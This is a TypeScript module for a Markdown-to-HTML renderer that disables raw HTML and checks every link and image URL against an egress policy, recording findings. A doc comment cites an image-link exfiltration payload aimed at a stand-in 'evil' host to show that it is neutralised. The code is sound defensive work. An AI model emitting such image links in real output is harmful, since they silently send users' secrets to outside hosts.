// renderMarkdown: Markdown to HTML with raw HTML off and every link and image URL through the egress policy.
import { heldValue, isUntrusted, type Untrusted } from '../../src/taint/untrusted.js';
import type { Finding } from '../../src/vocabulary/finding.js';
import { allowedImagesFor, enforceEgress, type EgressRuleContext } from './egress-rule.js';
import { createLinkGuard } from './link-guard.js';
import { markdownIt } from './markdown-it.js';
import { resolveMarkdownOptions, type MarkdownOptions, type ResolvedMarkdownOptions } from './options.js';

/** Rendered Markdown and what the policy changed. */
export interface MarkdownRendering {
  /** The HTML. */
  readonly html: string;
  /** `markdown.url_blocked` per block reason (distinct URLs) and `markdown.image_withheld`; never URL text. */
  readonly findings: readonly Finding[];
}

interface Engine {
  render(source: string): MarkdownRendering;
}

const engines = new WeakMap<ResolvedMarkdownOptions['policy'], Map<string, Engine>>();

/**
 * Renders Markdown (CommonMark plus markdown-it's tables and strikethrough) to HTML for a UI. Raw HTML is
 * always off: tags in the source are text. Every link and image destination — inline, reference-style,
 * autolink and, with `linkify`, bare URLs — is checked by the egress policy exactly as it will be written
 * into `href` or `src`, as a link (`checkUrl`'s `link` option): under a policy with `hosts: 'any'` a
 * destination with a query or a fragment is blocked, since a click would carry them to a host nobody chose. A
 * blocked destination leaves its Markdown as literal text (so `![](https://evil/?q=SECRET)` shows as text and
 * neither loads nor links); a relative or empty destination is blocked too, since it would resolve against
 * the page. Kept links get `rel="noopener noreferrer nofollow ugc"`. Images follow the `images` mode. Takes
 * tool prose as it comes, an `Untrusted<string>` (no reveal needed). Never throws on content.
 */
export function renderMarkdown(
  source: string | Untrusted<string>,
  options: MarkdownOptions,
): MarkdownRendering {
  const text: unknown = isUntrusted(source) ? heldValue(source) : source;
  if (typeof text !== 'string') throw new TypeError('renderMarkdown takes a string or an untrusted string.');
  return engineFor(resolveMarkdownOptions(options)).render(text);
}

function engineFor(options: ResolvedMarkdownOptions): Engine {
  let byMode = engines.get(options.policy);
  if (byMode === undefined) {
    byMode = new Map();
    engines.set(options.policy, byMode);
  }
  const key = `${options.images}:${String(options.linkify)}`;
  let engine = byMode.get(key);
  if (engine === undefined) {
    engine = createEngine(options);
    byMode.set(key, engine);
  }
  return engine;
}

/**
 * One private markdown-it instance per option set. Its `validateLink` and the egress rule read the current
 * render's context, which exists only during one synchronous `render` call, so concurrent callers never share
 * findings. The instance is never exposed, so no caller can swap the check out.
 */
function createEngine(options: ResolvedMarkdownOptions): Engine {
  const MarkdownIt = markdownIt();
  const md = new MarkdownIt('default', { html: false, linkify: options.linkify });
  const allowedImages = allowedImagesFor(options.images, options.policy.hosts !== 'any');
  let active: EgressRuleContext | undefined;
  md.validateLink = (url) => active?.guard.allows(url) ?? false;
  md.core.ruler.push('airlock_egress', (state) => {
    if (active !== undefined) enforceEgress(state, active);
  });
  return {
    render(source) {
      const context: EgressRuleContext = {
        guard: createLinkGuard(options.policy),
        allowedImages,
        withheldImages: 0,
      };
      active = context;
      try {
        const html = md.render(source);
        return { html, findings: findingsOf(context) };
      } finally {
        active = undefined;
      }
    },
  };
}

function findingsOf(context: EgressRuleContext): Finding[] {
  const findings = context.guard.findings();
  if (context.withheldImages > 0) {
    findings.push({
      code: 'markdown.image_withheld',
      pointer: '',
      count: context.withheldImages,
      action: 'cleaned',
      detail: { shownAs: context.allowedImages },
    });
  }
  return findings;
}
